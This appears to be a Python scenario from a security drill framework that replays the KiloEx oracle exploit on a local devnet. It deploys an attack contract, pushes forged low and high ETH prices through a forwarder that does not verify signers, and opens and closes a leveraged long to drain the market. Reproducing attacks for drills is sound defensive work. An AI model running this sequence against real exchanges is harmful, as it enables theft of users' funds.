"""forwarder-oracle — KiloEx, Apr 2025: the price-update path trusts the forwarder but never checks who
signed the forwarded request; the attacker prices ETH low, opens long, prices it high, closes."""

from __future__ import annotations

from collections.abc import Iterator

from breakglass.devnet.venue import USD, Venue
from breakglass.devnet.venue.forwarder import signed_price_push
from breakglass.drills.scenarios.base import AttackContext, Scenario, Step

ETH = 0


class ForwarderOracle(Scenario):
    name = "forwarder-oracle"
    incident = "KiloEx, 2025-04-14 (~$7.5M)"
    summary = "push prices through the trusted forwarder with an unprivileged signature; buy low, sell high"
    switches = ("forwarder_unchecked",)
    target_label = "ETH-PERP compartment"
    funding_usd = 150_000 * USD
    margin = 100_000 * USD
    size = 1_000_000 * USD
    low = 100 * 10**8
    high = 2_000 * 10**8

    def deploy(self, ctx: AttackContext) -> Iterator[Step]:
        v = ctx.venue
        yield ctx.deploy(
            "deploy attack contract", "ForwarderOracleAttack", v.usd.address, v.market(ETH).address
        )

    def _push(self, ctx: AttackContext, label: str, price: int) -> Step:
        v = ctx.venue
        request = signed_price_push(v["forwarder"], v["oracle"], ctx.attacker, {ETH: price})
        return ctx.call(label, v["forwarder"], "execute", request, gas=500_000, wait_seconds=12)

    def strike(self, ctx: AttackContext) -> Iterator[Step]:
        attack = ctx.attack("ForwarderOracleAttack")
        yield ctx.call(
            "fund attack contract", ctx.venue.usd, "transfer", attack.address, self.margin, wait_seconds=30
        )
        yield self._push(ctx, "push a low ETH price via the forwarder", self.low)
        yield ctx.call(
            "open long at the low price", attack, "openLong", self.margin, self.size, wait_seconds=12
        )
        yield self._push(ctx, "push a high ETH price via the forwarder", self.high * 4)
        yield ctx.call("close long at the high price", attack, "closeAndSweep", wait_seconds=12)

    def target(self, venue: Venue) -> int:
        return int(venue.vault.functions.compartment(ETH).call())
